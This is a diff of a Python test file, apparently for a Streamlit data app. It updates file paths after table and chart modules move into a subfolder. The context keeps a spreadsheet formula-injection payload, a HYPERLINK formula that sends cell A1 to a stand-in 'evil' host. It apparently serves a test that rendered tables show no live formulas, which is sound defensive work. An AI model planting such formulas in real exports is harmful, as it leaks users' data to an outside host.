@@ -16,7 +16,7 @@ from pages.parts.work.download_tokens import Pass
 from pages.parts.work.rows import as_cells, as_parquet
 from tests.pages.fetched import fetch
 
-PAGES = Path(__file__).parents[2] / "pages"
+PAGES = Path(__file__).parents[3] / "pages"
 LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
 
 
@@ -76,11 +76,11 @@ def test_all_charts_and_tables_are_drawn_where_they_are_noted_and_show_no_formul
     texts = {str(path.relative_to(PAGES)): path.read_text() for path in PAGES.rglob("*.py")}
     found = [(name, call) for name in texts for call in drawing.findall(texts[name])]
     assert sorted(found) == [
-        ("parts/picture.py", "vega_lite_chart"),
-        ("parts/table.py", "data_editor"),
-        ("parts/table.py", "dataframe"),
+        ("parts/scene/picture.py", "vega_lite_chart"),
+        ("parts/scene/table.py", "data_editor"),
+        ("parts/scene/table.py", "dataframe"),
     ]
-    assert "st.dataframe(as_cells(" in texts["parts/table.py"]
+    assert "st.dataframe(as_cells(" in texts["parts/scene/table.py"]
 
 
 def test_the_same_rows_are_there_as_parquet_with_their_types(mine: Pass) -> None:
